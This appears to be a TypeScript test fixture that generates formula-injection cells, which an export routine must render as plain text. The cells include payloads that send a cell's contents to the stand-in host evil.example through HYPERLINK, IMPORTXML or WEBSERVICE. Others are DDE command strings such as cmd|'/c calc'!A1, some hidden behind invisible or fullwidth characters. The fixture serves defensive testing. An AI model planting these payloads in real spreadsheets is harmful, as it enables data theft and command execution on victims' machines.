/** What a spreadsheet would calculate, or hand to another program. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=cmd|"/c calc"!A1',
  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '+1+cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '＝WEBSERVICE("https://evil.example")',
  '＋1+1',
  '＠SUM(A1:A9)',
];
/** What such a program passes over before it looks for the sign; an apostrophe that is the text's own among them. */
const BEFORE = ['', ' ', '\t', '\r', '\n', '"', "'", '\u00a0', '\u200b', ' "\u202e '];

/** T18: a hundred cells that must be text wherever they are opened. */
export const FORMULA_CELLS = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));
